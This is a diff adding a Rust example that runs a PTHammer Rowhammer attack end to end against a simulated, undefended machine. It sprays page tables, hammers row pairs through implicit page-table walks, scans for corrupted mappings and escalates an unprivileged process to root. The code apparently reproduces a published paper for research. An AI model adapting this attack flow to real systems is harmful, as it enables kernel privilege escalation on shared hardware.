@@ -1,0 +1,82 @@
+//! The paper's headline result (Section IV-F): an unprivileged process uses
+//! implicit page-table-walk accesses to flip a bit in a Level-1 page-table
+//! entry, captures another page table through the corrupted mapping, maps its
+//! own `struct cred` and becomes root. This example walks through the stages
+//! explicitly and prints what each one produced.
+//!
+//! Run with: `cargo run --release --example privilege_escalation`
+
+use pthammer::{
+    detect::scan_for_corrupted_mappings,
+    exploit::attempt_escalation,
+    pairs::{candidate_pairs, conflict_threshold, verify_same_bank},
+    AttackConfig, ImplicitHammer, PtHammer,
+};
+use pthammer_dram::FlipModelProfile;
+use pthammer_kernel::System;
+use pthammer_machine::MachineConfig;
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    let machine = MachineConfig::lenovo_t420(FlipModelProfile::fast(), 7);
+    let mut sys = System::undefended(machine);
+    let pid = sys.spawn_process(1000)?;
+    let uid = sys.getuid(pid)?;
+    println!("[*] attacker uid: {uid}");
+
+    let config = AttackConfig {
+        spray_bytes: 1 << 30,
+        hammer_rounds_per_attempt: 2_500,
+        max_attempts: 16,
+        eviction_buffer_factor: 1.25,
+        ..AttackConfig::quick_test(7, false)
+    };
+    let attack = PtHammer::new(config.clone())?;
+
+    println!("[*] building TLB and LLC eviction pools and spraying page tables...");
+    let prepared = attack.prepare(&mut sys, pid)?;
+    println!(
+        "    TLB pool: {} cycles, LLC pool: {} cycles, spray: {} Level-1 page tables",
+        prepared.tlb_pool.prep_cycles(),
+        prepared.llc_pool.prep_cycles(),
+        prepared.spray.l1pt_count()
+    );
+
+    let row_span = sys.machine().config().dram.geometry.row_span_bytes();
+    let threshold = conflict_threshold(&sys);
+    let mut rng = StdRng::seed_from_u64(7);
+
+    for attempt in 1..=config.max_attempts {
+        let pair = candidate_pairs(&prepared.spray, row_span, 1, &mut rng)[0];
+        let hammer = ImplicitHammer::prepare(
+            &mut sys, pid, pair, &prepared.tlb_pool, &prepared.llc_pool, config.llc_profile_trials,
+        )?;
+        let verification = verify_same_bank(
+            &mut sys, pid, pair, &hammer.tlb_low, &hammer.tlb_high,
+            &hammer.llc_low, &hammer.llc_high, threshold, 5,
+        )?;
+        if !verification.same_bank {
+            println!("[{attempt:02}] pair {:#x}/{:#x}: not same-bank, skipping", pair.low.as_u64(), pair.high.as_u64());
+            continue;
+        }
+        let stats = hammer.hammer(&mut sys, pid, config.hammer_rounds_per_attempt)?;
+        println!(
+            "[{attempt:02}] hammered {} rounds, avg {:.0} cycles/round, {:.0}% implicit DRAM hits",
+            stats.rounds, stats.avg_round_cycles(), stats.low_dram_rate() * 100.0
+        );
+        let (findings, _) = scan_for_corrupted_mappings(&mut sys, pid, &prepared.spray, &pair, row_span)?;
+        for finding in &findings {
+            println!("     corrupted mapping at {} -> {:?}", finding.vaddr, finding.kind);
+            if let Some(route) =
+                attempt_escalation(&mut sys, pid, &prepared.tlb_pool, &prepared.spray, finding, uid)?
+            {
+                println!("[+] privilege escalation via {route:?}");
+                println!("[+] getuid({}) = {}", route.escalated_pid(), sys.getuid(route.escalated_pid())?);
+                return Ok(());
+            }
+        }
+    }
+    println!("[-] no exploitable flip within the attempt budget (try a different seed)");
+    Ok(())
+}
